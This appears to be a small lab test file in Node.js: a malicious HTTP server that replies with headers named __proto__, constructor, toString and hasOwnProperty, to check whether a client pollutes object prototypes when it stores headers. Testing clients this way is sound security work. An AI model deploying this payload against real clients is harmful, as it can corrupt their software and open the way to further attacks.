// exploit: names headers as the inner parts of objects are named, for whoever keeps headers in one
// kind: lab
// exchange: none
// outcome: finished
// sees: \["__proto__","polluted"\].*\["constructor","polluted"\]
require('node:net').createServer((socket) => {
  socket.on('error', () => {})
  socket.end('HTTP/1.1 200 OK\r\n__proto__: polluted\r\nconstructor: polluted\r\ntoString: polluted\r\nhasOwnProperty: polluted\r\nContent-Length: 0\r\n\r\n')
}).listen(process.env.PORT)
